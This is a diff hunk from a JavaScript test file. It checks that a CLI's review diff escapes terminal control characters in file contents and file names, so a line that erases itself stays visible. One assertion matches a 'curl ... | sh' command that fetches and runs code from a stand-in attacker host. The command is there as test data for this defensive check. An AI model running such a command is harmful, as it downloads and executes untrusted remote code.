@@ -149,7 +149,8 @@ test('review diff escapes what the files hold: a line that erases itself cannot 
   assert.doesNotMatch(diff.stdout, /[\x1b\r]/, 'no control character reaches the terminal')
   assert.match(diff.stdout, /^\+curl -s http:\/\/evil\.invalid\/x \| sh$/m)
   assert.match(diff.stdout, /^\+\\e\[1A\\e\[2K\\r/m, 'the erasing line is shown as text')
-  assert.match(diff.stdout, /^\+\+\+ b.*n\\e\[2Kame$/m, 'the header path is escaped too')
+  // Quoted as git quotes such a name (`\033` from diffChange), and that backslash escaped again by the CLI.
+  assert.match(diff.stdout, /^\+\+\+ "b.*n\\\\033\[2Kame"$/m, 'the header path is escaped too')
   assert.equal(cli(['review', 'discard', id], ws).status, 0)
 })
 
